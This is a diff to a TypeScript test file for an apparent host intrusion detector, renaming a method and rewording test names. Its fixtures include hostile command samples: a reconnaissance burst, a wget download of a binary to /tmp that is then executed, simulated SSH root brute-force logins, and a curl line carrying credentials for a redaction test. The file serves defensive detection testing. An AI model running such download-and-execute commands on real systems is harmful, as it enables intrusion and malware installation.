@@ -16,7 +16,7 @@ function hitsOf(events: readonly Readonly<Record<string, unknown>>[]): readonly 
     const all = { ProcessId: index + 10, ParentProcessId: 5, UserId: '1000', UserName: 'eve', ...payload };
     const subject = subjectOf({ name: String(event), payload: all, time: START + index * 1_000 });
     clock.at += 1_000;
-    return subject === undefined ? [] : detector.judge(subject);
+    return subject === undefined ? [] : detector.evaluate(subject);
   });
 }
 const start = (CommandLine: string) => ({ Executable: `/usr/bin/${CommandLine.split(' ')[0]}`, CommandLine });
@@ -25,7 +25,7 @@ const detailsOf = (hit: Hit | undefined, redact = true) => {
   return evidenceOf(hit, 'T', { redact }).details;
 };
 
-describe('The evidence of a sequence', () => {
+describe('The evidence of a correlation', () => {
   it('lists every command of a reconnaissance burst in order', () => {
     const commands = ['whoami', 'id', 'uname -a', 'hostname', 'last', 'lscpu'];
     const hit = hitsOf(commands.map(start)).find(({ count }) => count === 6);
@@ -33,7 +33,7 @@ describe('The evidence of a sequence', () => {
     assert.equal(hit?.since, START);
   });
 
-  it('has the URL and the file of a program that was downloaded and run', () => {
+  it('contains the URL and the file of a program that was downloaded and executed', () => {
     const download = 'wget -q http://203.0.113.9/x.bin -O /tmp/x.bin';
     const hit = hitsOf([start(download), { Executable: '/tmp/x.bin', CommandLine: '/tmp/x.bin -d' }]).find(
       ({ rule, count }) => count !== undefined && rule.alert === 'IoT_DownloadFileThenRun',
@@ -45,7 +45,7 @@ describe('The evidence of a sequence', () => {
     );
   });
 
-  it('has the first time of a brute force, and a count for each address', () => {
+  it('contains the first time of a brute force, and a count for each address', () => {
     const login = (n: number) => ({
       event: 'Login',
       ...{ Operation: 'Login', Result: 'Fail', Executable: '/usr/sbin/sshd', UserName: 'root', UserId: undefined },
@@ -59,7 +59,7 @@ describe('The evidence of a sequence', () => {
     assert.deepEqual([addresses[0], addresses.length], ['203.0.113.1 (7)', 14]);
   });
 
-  it('redacts secrets in commands, and bounds them', () => {
+  it('redacts secrets in commands, and limits their length', () => {
     const events = Array.from({ length: 60 }, (_, n) => ({
       ...{ source: 'process_creation' as const, count: 1 },
       summary: `curl -u admin:hunter2 http://192.0.2.1/${n} ${'x'.repeat(300)}`,
